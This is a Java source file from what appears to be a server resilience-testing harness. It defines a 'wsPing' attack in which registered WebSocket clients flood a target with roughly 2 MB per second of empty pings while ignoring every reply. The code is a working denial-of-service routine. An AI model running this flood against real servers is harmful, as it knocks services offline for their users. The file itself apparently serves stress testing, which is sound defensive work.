package io.hawser.attack.attacks;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;

/** A registered WebSocket client that sends the smallest pings and reads no pong. */
final class WebSocketPings implements Attack {
  private static final int PINGS_AT_ONCE = 3_500;

  /** An empty ping and an empty mask (RFC 6455). */
  private static final byte[] PING = {(byte) 0x89, (byte) 0x80, 0, 0, 0, 0};

  private static final int BINARY_MESSAGE = 0x82;
  private static final int MASKED = 0x80;
  private static final int LENGTH_OF_7_BITS = 125;
  private static final int LENGTH_OF_16_BITS = 126;

  @Override
  public String name() {
    return "wsPing";
  }

  @Override
  public String does() {
    return "a registered WebSocket client sends 2 MB of empty pings a second and reads nothing";
  }

  @Override
  public Setup setup() {
    return Setup.WEB_SOCKET;
  }

  @Override
  public void run(Target target, Tally tally) throws IOException {
    String request =
        "GET "
            + Setup.WEB_SOCKET_PATH
            + " HTTP/1.1\r\nHost: "
            + target.host()
            + "\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
            + "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n";
    byte[] handshake = request.getBytes(StandardCharsets.US_ASCII);
    byte[] registration = binary(Frames.registerTm(RegisteredPeer.APPLICATION, ""));
    byte[] pings = ByteBuffer.allocate(PINGS_AT_ONCE * PING.length).array();
    for (int i = 0; i < PINGS_AT_ONCE; i++) {
      System.arraycopy(PING, 0, pings, i * PING.length, PING.length);
    }
    new Crowd(target, tally, 1, 10, () -> new Client(handshake, registration, pings)).run();
  }

  private static byte[] binary(byte[] payload) {
    ByteArrayOutputStream message = new ByteArrayOutputStream();
    message.write(BINARY_MESSAGE);
    if (payload.length > LENGTH_OF_7_BITS) {
      message.write(MASKED | LENGTH_OF_16_BITS);
      message.write(payload.length >> 8);
      message.write(payload.length);
    } else { // each length has one form only
      message.write(MASKED | payload.length);
    }
    message.writeBytes(new byte[4]); // the mask
    message.writeBytes(payload);
    return message.toByteArray();
  }

  private static final class Client extends Peer {
    private final byte[] handshake;
    private final byte[] registration;
    private final byte[] pings;
    private final Pace pace = new Pace(100);
    private int answers;

    Client(byte[] handshake, byte[] registration, byte[] pings) {
      this.handshake = handshake;
      this.registration = registration;
      this.pings = pings;
    }

    @Override
    void connected() {
      send(handshake);
    }

    @Override
    void received(ByteBuffer bytes) {
      answers++;
      if (answers == 1) {
        send(registration);
      } else {
        goDeaf();
      }
    }

    @Override
    void tick() {
      if (answers > 1 && !isStuck()) {
        while (pace.takeOne()) {
          send(pings);
        }
      }
    }
  }
}
